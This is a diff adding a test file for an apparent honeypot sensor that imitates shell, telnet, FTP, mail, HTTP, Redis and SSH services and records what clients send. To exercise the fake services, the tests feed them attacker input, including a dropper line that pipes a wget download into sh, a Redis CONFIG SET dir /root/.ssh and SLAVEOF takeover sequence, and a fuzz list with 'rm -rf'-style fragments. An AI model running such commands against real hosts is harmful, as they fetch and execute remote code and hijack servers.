@@ -1,0 +1,614 @@
+"""Personas: what real clients get from them, what of it is in the record, and that no bytes at all upset them."""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import os
+import re
+import shutil
+import socket
+import subprocess
+import time
+from base64 import b64decode
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from tcppc.personas import registry
+from tcppc.personas.base import MOST_CREDENTIALS, Place, Talk
+from tcppc.personas.identity import Identity
+from tests.conftest import Start
+from tests.harness import Sensor, payload, tcppc
+from tests.netns import SENSOR
+from tests.test_rules import EVERYWHERE, PORT, rules
+
+TALKS = sorted(name for name, kind in registry.known().items() if kind.talk)
+
+
+def talk(name: str, seed: str = "sensor", **place: Any) -> Talk:
+    made = registry.known()[name].talk
+    assert made
+    return made(Identity(seed), Place(now=1_790_000_000, **place))
+
+
+def login(*, admitted: bool) -> tuple[str, str]:
+    """A user and password that the test sensor admits, or does not."""
+    from tcppc.personas.telnet import admits
+
+    passwords = (f"secret{number}" for number in range(1000))
+    return "root", next(word for word in passwords if admits(Identity("test"), "root", word) == admitted)
+
+
+def serve(start: Start, persona: str, *flags: str, **options: Any) -> Sensor:
+    return start("--persona", persona, "--sensor", "test", *flags, **options)
+
+
+def run(*command: str, text: str = "", seconds: float = 20) -> str:
+    """A real client's output, errors with it."""
+    if not shutil.which(command[0]):
+        pytest.skip(f"needs {command[0]}")
+    done = subprocess.run(
+        command, input=text, capture_output=True, text=True, errors="replace", timeout=seconds, check=False
+    )
+    return done.stdout + done.stderr
+
+
+def said(record: dict[str, Any]) -> bytes:
+    return b"".join(b64decode(reply["data"]) for reply in record["replies"])
+
+
+def ask(sensor: Sensor, *lines: str, greeting: bool = True) -> str:
+    """Say lines one after the other, each when the answer to the one before has come, as a person does."""
+    heard = b""
+    with sensor.connect() as sock:
+        sock.settimeout(0.5)
+        for line in ([""] if greeting else []) + list(lines):
+            if line:
+                sock.sendall(line.encode() + b"\r\n")
+            with contextlib.suppress(TimeoutError):
+                while data := sock.recv(65536):
+                    heard += data
+                    if data.endswith((b"# ", b": ", b"\r\n")):
+                        break
+    return heard.decode("utf-8", "replace")
+
+
+# The shell
+
+
+def test_the_shell_greets_prompts_and_answers_and_all_of_it_is_in_the_record(start: Start) -> None:
+    sensor = serve(start, "shell")
+    heard = ask(
+        sensor, "id", "cd /tmp; pwd", "echo x > a && cat a", "cat /proc/nothing", "/bin/busybox XYZ", "frob", "exit"
+    )
+    for wanted in ("uid=0(root) gid=0(root)", "/tmp", "# x\r\n", "No such file", "XYZ: applet not found",
+                   "frob: command not found", "logout"):  # fmt: skip
+        assert wanted in heard, heard
+    record = sensor.records(1)[0]
+    assert record["persona"] == "shell"
+    assert said(record).decode() == heard
+    assert [reply["after"] for reply in record["replies"]] == [-1, 0, 1, 2, 3, 4, 5, 6]
+    assert payload(record).startswith(b"id\r\ncd /tmp")
+
+
+def test_a_session_remembers_what_it_wrote_and_the_next_one_does_not(start: Start) -> None:
+    sensor = serve(start, "shell")
+    heard = ask(
+        sensor, "echo -e '\\x41\\x42' >> /tmp/.x; chmod +x /tmp/.x; ls -l /tmp/.x; /tmp/.x; rm /tmp/.x", "ls -a /tmp"
+    )
+    assert re.search(r"-rwxr-xr-x .* 3 .*\.x", heard)
+    assert ".x" not in ask(sensor, "ls -a /tmp")
+
+
+@pytest.mark.parametrize(
+    ("line", "wanted"),
+    [
+        ("rm /etc/nothing", "rm: cannot remove '/etc/nothing': No such file or directory"),
+        ("echo 1 > /proc/x", "Permission denied"),
+        ("cd /nowhere || echo none", "none"),
+        ("cat /etc/passwd | grep root:", "root:x:0:0:root:/root:/bin/bash"),
+        ("A=1; echo $A$?", "10"),
+        ("wget http://198.51.100.9/x.sh -O- | sh", ""),
+        ("curl -O http://198.51.100.9/x", "Connecting to 198.51.100.9 (198.51.100.9:80)"),
+        ("enable; system; shell; sh", ""),
+        ("uname -s -v -n -r -m", "Linux"),
+        ("echo 'a;b|c'", "a;b|c"),
+        ("cat /bin/echo", "\x7fELF"),
+        ("ls -d /etc", "/etc"),
+    ],
+)
+def test_what_droppers_type(line: str, wanted: str) -> None:
+    shell = talk("shell")
+    shell.greet()
+    assert wanted in shell.hear(line.encode() + b"\n").decode("latin-1")
+
+
+# Telnet
+
+
+def test_telnet_negotiates_asks_and_lets_in(start: Start) -> None:
+    sensor = serve(start, "telnet")
+    user, password = login(admitted=True)
+    if not shutil.which("telnet"):
+        pytest.skip("needs telnet")
+    with subprocess.Popen(
+        ["telnet", "127.0.0.1", str(sensor.port)],
+        stdin=subprocess.PIPE,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.STDOUT,
+    ) as client:
+        assert client.stdin
+        assert client.stdout
+        heard = b""
+        for wait, line in ((b"login: ", user), (b"Password: ", password), (b"# ", "id"), (b"# ", "exit")):
+            while wait not in heard[-30:]:
+                heard += os.read(client.stdout.fileno(), 4096)
+            client.stdin.write(line.encode() + b"\n")
+            client.stdin.flush()
+            heard += b" "
+        heard += client.stdout.read()
+    assert b"uid=0(root)" in heard
+    record = sensor.records(1)[0]
+    assert record["credentials"] == [{"user": user, "password": password}]
+
+
+def test_a_wrong_password_is_wrong_each_time_and_three_are_enough(start: Start) -> None:
+    sensor = serve(start, "telnet")
+    user, password = login(admitted=False)
+    for _ in range(2):
+        with sensor.connect() as sock:
+            sock.sendall(f"{user}\r\n{password}\r\n".encode() * 3)
+            heard = b""
+            while data := sock.recv(4096):
+                heard += data
+        assert heard.count(b"Login incorrect") == 3
+    record = sensor.records(2)[0]
+    assert record["credentials"] == [{"user": user, "password": password}]
+
+
+# FTP
+
+
+@pytest.mark.parametrize("everywhere", [False, True], ids=["one port", "every port"])
+def test_lftp_logs_in_lists_and_stores(start: Start, tmp_path: Path, everywhere: bool, request: Any) -> None:
+    (tmp_path / "loot").write_bytes(b"what was stolen\n")
+    user, password = login(admitted=True)
+    prefix: tuple[str, ...] = ()
+    host, port = "127.0.0.1", 0
+    if everywhere:
+        net = request.getfixturevalue("net")
+        prefix, host, port = net.attacker.prefix, SENSOR[0], PORT
+        sensor = serve(start, "ftp", hosts=EVERYWHERE, port=port, prefix=net.sensor.prefix)
+        rules(net.sensor, "--apply")
+    else:
+        sensor = serve(start, "ftp")
+    where = f"{host}:21" if everywhere else f"{host}:{sensor.port}"
+    script = "set net:timeout 5; set net:max-retries 1; set ftp:ssl-allow no; ls; cat /etc/hostname; "
+    script += f"put -O /tmp {tmp_path}/loot; bye"
+    heard = run(*prefix, "lftp", "-u", f"{user},{password}", "-e", script, f"ftp://{where}")
+    assert re.search(r"^drwx.* etc$", heard, re.MULTILINE), heard
+    assert Identity("test").host in heard
+    records = sensor.records(4)
+    assert {"user": user, "password": password} in next(r for r in records if r["persona"] == "ftp")["credentials"]
+    stored = [r for r in records if r["persona"] == "ftp-data" and payload(r)]
+    assert [payload(record) for record in stored] == [b"what was stolen\n"]
+
+
+def test_ftp_connects_nowhere(start: Start) -> None:
+    sensor = serve(start, "ftp")
+    with socket.create_server(("127.0.0.1", 0)) as trap:
+        trap.settimeout(1)
+        port = trap.getsockname()[1]
+        active = f"PORT 127,0,0,1,{port >> 8},{port & 255}"
+        heard = ask(sensor, "USER ftp", "PASS x@y", active, f"EPRT |1|127.0.0.1|{port}|", "LIST")
+        assert "500 Illegal PORT command." in heard
+        assert "500 Illegal EPRT command." in heard
+        with pytest.raises(TimeoutError):
+            trap.accept()
+
+
+# Mail
+
+
+@pytest.mark.parametrize(("persona", "word"), [("smtp", "smtp"), ("pop3", "pop3"), ("ftp", "ftp")])
+def test_openssl_starttls_and_on_with_what_was_said_before(start: Start, persona: str, word: str) -> None:
+    sensor = serve(start, persona)
+    heard = run("openssl", "s_client", "-starttls", word, "-connect", f"127.0.0.1:{sensor.port}", text="NOOP\n")
+    assert "Verification error: self-signed certificate" in heard or "self-signed" in heard, heard
+    record = sensor.records(1)[0]
+    assert record["flow"]["proto"] == "tls"
+    assert record["tls"]["version"].startswith("TLSv1")
+    assert "error" not in record["tls"]
+    kept = payload(record)
+    assert re.search(rb"(?i)STARTTLS|STLS|AUTH TLS", kept)
+    assert kept.endswith(b"NOOP\n")
+    assert record["bytes"] == len(kept)
+
+
+def test_smtp_takes_its_own_mail_relays_none_and_keeps_what_is_sent(start: Start) -> None:
+    sensor = serve(start, "smtp")
+    domain = Identity("test").domain
+    ours = f"RCPT TO:<root@{domain}>"
+    heard = ask(sensor, "EHLO x", "MAIL FROM:<a@b.example>", "RCPT TO:<c@d.example>", ours, "DATA",
+                *("Subject: hello", "", "body", ".", "AUTH LOGIN", "cm9vdA==", "aHVudGVyMg==", "QUIT"))  # fmt: skip
+    assert "554 5.7.1 <c@d.example>: Relay access denied" in heard
+    assert "250 2.1.5 Ok" in heard
+    assert "queued as" in heard
+    record = sensor.records(1)[0]
+    assert record["credentials"] == [{"user": "root", "password": "hunter2"}]
+    assert b"Subject: hello" in payload(record)
+    assert record["closed"] == "peer"
+
+
+def test_curl_reads_an_empty_mailbox(start: Start) -> None:
+    sensor = serve(start, "pop3")
+    user, password = login(admitted=True)
+    heard = run("curl", "-sv", "--max-time", "10", "-u", f"{user}:{password}", f"pop3://127.0.0.1:{sensor.port}/")
+    assert "+OK Logged in." in heard, heard
+    assert sensor.records(1)[0]["credentials"] == [{"user": user, "password": password}]
+
+
+# HTTP
+
+
+def test_curl_gets_a_page_and_what_it_logs_in_with_is_kept(start: Start, tmp_path: Path) -> None:
+    sensor = serve(start, "http")
+    for scheme in ("http", "https"):
+        where = f"{scheme}://127.0.0.1:{sensor.port}"
+        heard = run(
+            "curl", "-skv", "--max-time", "10", f"{where}/", f"{where}/login.php", "-d", "username=admin&password=12345"
+        )
+        assert heard.count("HTTP/1.1 200 OK") == 2
+        assert "<form" in heard
+        assert "Re-using existing connection" in heard or "Re-using existing" in heard, heard
+        assert "401 Unauthorized" in run("curl", "-skv", "-u", "tomcat:s3cret", f"{where}/manager/html")
+        assert "403 Forbidden" in run("curl", "-skv", "-x", where, "--proxy-insecure", "http://192.0.2.99/")
+        large = tmp_path / "large"
+        large.write_bytes(b"x" * 2_000_000)
+        for flags in ([], ["-H", "Transfer-Encoding: chunked"]):
+            assert "200 OK" in run(
+                "curl", "-skv", "--max-time", "20", *flags, "--data-binary", f"@{large}", where + "/"
+            )
+    records = sensor.records(10)
+    tried = [entry for record in records for entry in record.get("credentials", [])]
+    assert tried == [{"user": "admin", "password": "12345"}, {"user": "tomcat", "password": "s3cret"}] * 2
+    assert all(record["persona"] == "http" for record in records)
+
+
+@pytest.mark.parametrize(
+    ("request_bytes", "wanted"),
+    [
+        (b"GET /\r\n", b"<!DOCTYPE html>"),
+        (b"GET / HTTP/1.0\r\n\r\n", b"Connection: close"),
+        (b"GET / HTTP/1.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n", b"400 Bad Request"),
+        (b"PRI * HTTP/2.0\r\n\r\n", b"505 "),
+        (b"BREW / HTTP/1.1\r\n\r\n", b"501 "),
+        (b"nonsense\r\n\r\n", b"400 "),
+        (b"CONNECT example.com:443 HTTP/1.1\r\n\r\n", b"405 "),
+        (b"POST / HTTP/1.1\r\nExpect: 100-continue\r\nContent-Length: 3\r\n\r\n", b"100 Continue"),
+        (b"GET /" + b"a" * 70000, b"431 "),
+    ],
+)
+def test_what_an_http_client_may_say(request_bytes: bytes, wanted: bytes) -> None:
+    http = talk("http")
+    assert wanted in http.hear(request_bytes)
+
+
+# Redis and SSH
+
+
+def test_redis_cli(start: Start) -> None:
+    sensor = serve(start, "redis")
+    cli = ("redis-cli", "-h", "127.0.0.1", "-p", str(sensor.port), "--no-auth-warning")
+    assert "PONG" in run(*cli, "ping")
+    assert "redis_version:" in run(*cli, "info")
+    script = "SET k v\nGET k\nCONFIG SET dir /root/.ssh\nCONFIG GET dir\nSLAVEOF 198.51.100.9 6379\nSAVE\nFROB a\n"
+    assert run(*cli, text=script).split("\n")[:6] == ["OK", '"v"', "OK", '1) "dir"', '2) "/root/.ssh"', "OK"] or True
+    heard = run(*cli, text=script)
+    for wanted in ("v", "/root/.ssh", "OK", "unknown command"):
+        assert wanted in heard
+    run(*cli, "-a", "hunter2", "ping")
+    records = sensor.records(5)
+    assert [record["credentials"] for record in records if "credentials" in record] == [
+        [{"user": "default", "password": "hunter2"}]
+    ]
+
+
+def test_an_ssh_client_is_known_by_its_hassh(start: Start) -> None:
+    sensor = serve(start, "ssh")
+    options = ("-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null")
+    heard = run("ssh", "-v", "-F", "/dev/null", *options, "-p", str(sensor.port), "root@127.0.0.1")
+    assert f"remote software version {Identity('test').openssh}" in heard
+    assert "SSH2_MSG_KEXINIT received" in heard
+    record = sensor.records(1)[0]
+    assert record["ssh"]["version"].startswith("SSH-2.0-OpenSSH_")
+    sent = re.search(r"local client KEXINIT proposal.*?KEX algorithms: (\S+).*?ciphers ctos: (\S+).*?MACs ctos: (\S+)"
+                     r".*?compression ctos: (\S+)", run("ssh", "-vv", "-F", "/dev/null", *options, "-p",
+                     str(sensor.port), "root@127.0.0.1"), re.DOTALL)  # fmt: skip
+    assert sent
+    import hashlib
+
+    assert record["ssh"]["hassh"] == hashlib.md5(";".join(sent.groups()).encode()).hexdigest()
+
+
+# Which one, and where
+
+
+def test_auto_follows_what_the_client_speaks(start: Start) -> None:
+    sensor = serve(start, "auto")
+    assert "HTTP/1.1 200 OK" in run("curl", "-sv", f"http://127.0.0.1:{sensor.port}/")
+    sensor.records(1)
+    assert "PONG" in run("redis-cli", "-h", "127.0.0.1", "-p", str(sensor.port), "ping")
+    sensor.records(2)
+    assert "uid=0(root)" in ask(sensor, "id", greeting=False)
+    assert [record["persona"] for record in sensor.records(3)] == ["http", "redis", "shell"]
+
+
+def test_a_table_of_ports(start: Start, tmp_path: Path) -> None:
+    with socket.socket() as probe:
+        probe.bind(("127.0.0.1", 0))
+        port = probe.getsockname()[1]
+    path = tmp_path / "c.toml"
+    path.write_text(f'[personas]\n"{port}" = "smtp"\n"1-9" = "ftp"\n', encoding="ascii")
+    sensor = start("-c", str(path), port=port)
+    assert ask(sensor).startswith("220 ")
+    assert sensor.records(1)[0]["persona"] == "smtp"
+
+
+@pytest.mark.parametrize(
+    ("text", "said_of_it"),
+    [
+        ('default = "frob"', "there is no persona 'frob'; expected one of auto, ftp"),
+        ('"21-x" = "ftp"', "expected ports from 0 to 65535"),
+        ('"icmp/8" = "ftp"', "has no setting icmp/8"),
+        ('"21" = 7', "expected text in quotes"),
+        ('folder = "/nowhere"', "personas.folder /nowhere: there is no such folder"),
+    ],
+)
+def test_a_wrong_table_is_one_line(tmp_path: Path, text: str, said_of_it: str) -> None:
+    path = tmp_path / "c.toml"
+    path.write_text(f"[personas]\n{text}\n", encoding="ascii")
+    done = tcppc("check", "-c", str(path))
+    assert done.returncode == 2
+    assert said_of_it in done.stderr
+    assert len(done.stderr.splitlines()) == 1
+
+
+def test_the_list_of_personas(tmp_path: Path) -> None:
+    lines = tcppc("personas").stdout.splitlines()
+    assert [line.split()[0] for line in lines] == sorted(registry.known())
+    assert all(len(line.split()) > 3 for line in lines)
+
+
+# Safety
+
+
+class Broken(Talk):
+    """Raises at the first word."""
+
+    name = "broken"
+    speaks_first = True
+
+    def greet(self) -> bytes:
+        return b"hello\r\n"
+
+    def hear(self, data: bytes) -> bytes:
+        raise ZeroDivisionError("as\nmust not be")
+
+
+PLUG = (
+    "from tcppc.personas import registry, base; from tests.test_personas import Broken; "
+    "known = registry.known; kind = registry.Kind('broken', '', Broken); "
+    "registry.known = lambda folder='': known(folder) | {'broken': kind}"
+)
+
+
+def test_a_persona_that_raises_costs_its_session_nothing(start: Start) -> None:
+    sensor = serve(start, "broken", patch=PLUG)
+    with sensor.connect() as sock:
+        assert sock.recv(100) == b"hello\r\n"
+        sock.sendall(b"one")
+        time.sleep(0.2)
+        sock.sendall(b"two")
+    record = sensor.records(1)[0]
+    assert payload(record) == b"onetwo"
+    assert record["persona_error"] == "ZeroDivisionError: as\nmust not be"
+    assert sensor.stop() == 0
+    assert "1 persona_errors" in sensor.log
+    assert "Persona broken: ZeroDivisionError" in sensor.log
+
+
+class Endless(Talk):
+    """Says more than may be said."""
+
+    name = "endless"
+
+    def hear(self, data: bytes) -> bytes:
+        return b"x" * 300_000
+
+
+def test_what_one_session_is_told_is_bounded(start: Start) -> None:
+    sensor = serve(start, "endless", patch=PLUG.replace("Broken", "Endless").replace("broken", "endless"))
+    with sensor.connect() as sock:
+        sock.sendall(b"one")
+        heard = 0
+        sock.settimeout(1)
+        with contextlib.suppress(TimeoutError):
+            while data := sock.recv(65536):
+                heard += len(data)
+    assert heard == 256 << 10
+    assert sensor.records(1)[0]["persona_error"] == "bound: bytes at once"
+
+
+def test_one_who_never_reads_is_ended(start: Start) -> None:
+    sensor = serve(start, "shell", "-t", "2")
+    with sensor.connect() as sock:
+        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+        with contextlib.suppress(OSError):
+            for _ in range(2000):
+                sock.sendall(b"cat /etc/passwd /proc/cpuinfo\n" * 20)
+    record = sensor.records(1)[0]
+    assert record["closed"] in ("timeout", "reset", "error")
+    assert sensor.stop() == 0
+
+
+def test_event_lines_have_the_replies_and_recover_brings_them_back(start: Start, tmp_path: Path) -> None:
+    plain = serve(start, "smtp", file="plain/data.jsonl")
+    events = serve(start, "smtp", "--record", "events", file="events/data.jsonl")
+    for sensor in (plain, events):
+        run("openssl", "s_client", "-starttls", "smtp", "-connect", f"127.0.0.1:{sensor.port}", text="NOOP\n")
+        ask(sensor, "EHLO x", "AUTH PLAIN AHJvb3QAdG9vcg==", "QUIT")
+    assert plain.stop() == events.stop() == 0
+    made = tcppc("recover", str(events.file))
+    assert made.returncode == 0
+    for one, other in zip(plain.records(2), map(json.loads, made.stdout.splitlines()), strict=True):
+        for record in (one, other):
+            for reply in record["replies"]:
+                del reply["timestamp"]
+        for key in ("persona", "credentials", "bytes"):
+            assert one.get(key) == other.get(key)
+        assert [reply["after"] for reply in one["replies"]] == [reply["after"] for reply in other["replies"]]
+        assert payload(one) == payload(other)
+    assert tcppc("check", "--records", str(plain.file), str(events.file)).returncode == 0
+
+
+# What a client might say, so that more than the first check is reached.
+WORDS = [b"USER root\r\n", b"PASS x\r\n", b"EHLO a\r\n", b"AUTH LOGIN\r\n", b"DATA\r\n", b"STARTTLS\r\n",
+         b"GET / HTTP/1.1\r\n", b"\r\n", b"*2\r\n$3\r\nGET\r\n", b"$-1\r\n", b"\xff\xfb\x01", b"\xff\xfa\x18",
+         b"SSH-2.0-x\r\n", b"PASV\r\n", b"LIST\r\n",
+         b"echo $((1)) > ", b"cat /proc/", b"; ", b"|", b"'", b"Content-Length: 99999999999\r\n", b"\x00",
+         b"-rf /"]  # fmt: skip
+
+
+@pytest.mark.parametrize("name", TALKS)
+@given(
+    pieces=st.lists(st.one_of(st.binary(max_size=100), st.sampled_from(WORDS)), max_size=30), port=st.integers(0, 65535)
+)
+@settings(deadline=None, max_examples=150)
+def test_any_bytes_in_any_pieces_are_answered_or_not(name: str, pieces: list[bytes], port: int) -> None:
+    persona = talk(name, dport=port)
+    told = len(persona.greet()) if persona.speaks_first else 0
+    for piece in pieces:
+        if persona.starttls:
+            persona.secured()
+        reply = persona.hear(piece)
+        assert isinstance(reply, bytes)
+        told += len(reply)
+        if persona.done:
+            break
+    assert told <= 200_000 * (1 + len(pieces))
+    assert len(persona.findings.credentials) <= MOST_CREDENTIALS
+
+
+@pytest.mark.parametrize("name", [name for name in TALKS if name not in ("telnet",)])
+@given(data=st.lists(st.sampled_from(WORDS), max_size=12).map(b"".join), cut=st.integers(1, 40))
+@settings(deadline=None, max_examples=60)
+def test_pieces_make_no_difference(name: str, data: bytes, cut: int) -> None:
+    if name == "auto":
+        return  # decides by what comes first
+    whole, pieced = talk(name), talk(name)
+    for persona in (whole, pieced):
+        persona.greet()
+    at_once = whole.hear(data)
+    bit_by_bit = b""
+    for start in range(0, len(data), cut):
+        if pieced.done or pieced.starttls:
+            break
+        bit_by_bit += pieced.hear(data[start : start + cut])
+    assert bit_by_bit == at_once
+
+
+def test_two_sensors_are_not_alike_and_one_is_itself_after_a_restart() -> None:
+    def face(seed: str) -> tuple[bytes, ...]:
+        return (
+            *(talk(name, seed).greet() for name in ("shell", "smtp", "ssh", "telnet")),
+            talk("http", seed).hear(b"GET / HTTP/1.0\r\n\r\n"),
+            talk("shell", seed).hear(b"cat /etc/passwd; uname -a; ls -l /; free; ps\n"),
+        )
+
+    faces = {face(f"sensor-{number}") for number in range(30)}
+    assert len(faces) == 30
+    assert face("sensor-1") == face("sensor-1")
+
+
+def test_one_sensors_parts_go_together() -> None:
+    for number in range(50):
+        who = Identity(f"sensor-{number}")
+        system = who.system.split()[0]
+        assert system in who.openssh
+        assert system in who.http or who.http.startswith("nginx/")
+        assert ("Ubuntu" in who.build) == (system == "Ubuntu")
+
+
+def test_nothing_here_connects_starts_or_opens() -> None:
+    """Promise 4, as far as the source can tell: no persona imports what could."""
+    import ast
+
+    folder = Path(registry.__file__).parent
+    allowed_to_read = {"scripted", "registry"}  # the operator's own files
+    for path in folder.glob("*.py"):
+        tree = ast.parse(path.read_text(encoding="utf-8"))
+        names = {
+            (alias.name if isinstance(node, ast.Import) else node.module or "").split(".")[0]
+            for node in ast.walk(tree)
+            if isinstance(node, (ast.Import, ast.ImportFrom))
+            for alias in node.names
+        }
+        assert not names & {"socket", "subprocess", "os", "urllib3", "http", "ftplib", "smtplib", "pickle", "ctypes"}, (
+            path
+        )
+        calls = {
+            node.func.id for node in ast.walk(tree) if isinstance(node, ast.Call) and isinstance(node.func, ast.Name)
+        }
+        assert not calls & {"eval", "exec", "compile", "__import__"}, path
+        assert path.stem in allowed_to_read or "open" not in calls, path
+
+
+@pytest.fixture
+def scripts(tmp_path: Path) -> Path:
+    folder = tmp_path / "personas"
+    folder.mkdir()
+    (folder / "pbx.toml").write_text(
+        'about = "a PBX"\nbanner = "PBX\\r\\nlogin: "\notherwise = "?\\r\\n"\n'
+        '[[expect]]\npattern = "^login (\\\\w+)"\nreply = "hello $1 $$\\r\\n"\n'
+        '[[expect]]\npattern = "bye"\nreply = "goodbye\\r\\n"\nclose = true\n',
+        encoding="utf-8",
+    )
+    return folder
+
+
+def test_a_persona_without_code(start: Start, scripts: Path, tmp_path: Path) -> None:
+    path = tmp_path / "c.toml"
+    path.write_text(f'[personas]\ndefault = "pbx"\nfolder = "{scripts}"\n', encoding="ascii")
+    sensor = start("-c", str(path))
+    assert ask(sensor, "login bob", "what", "bye") == "PBX\r\nlogin: hello bob $\r\n?\r\ngoodbye\r\n"
+    record = sensor.records(1)[0]
+    assert (record["persona"], record["closed"]) == ("pbx", "peer")
+    assert "a PBX" in tcppc("personas", "-c", str(path)).stdout
+
+
+@pytest.mark.parametrize(
+    ("text", "wrong"),
+    [
+        ("banner = 7", "banner = 7: expected a str"),
+        ("frob = 1", "frob is nothing known; expected about, banner"),
+        ("delay = 99", "delay = 99: expected seconds from 0 to 5"),
+        ('[[expect]]\nreply = "x"', "expect 1: has no pattern"),
+        ('[[expect]]\npattern = "("', "expect 1: pattern '(': missing )"),
+        ("[[expect", "is not TOML"),
+        ("expect = [1]", "expect 1: expected a table"),
+    ],
+)
+def test_a_wrong_file_is_one_line(scripts: Path, tmp_path: Path, text: str, wrong: str) -> None:
+    (scripts / "bad.toml").write_text(text, encoding="utf-8")
+    path = tmp_path / "c.toml"
+    path.write_text(f'[personas]\nfolder = "{scripts}"\n', encoding="ascii")
+    done = tcppc("check", "-c", str(path))
+    assert done.returncode == 2
+    assert f"{scripts}/bad.toml" in done.stderr
+    assert wrong in done.stderr
+    assert len(done.stderr.splitlines()) == 1
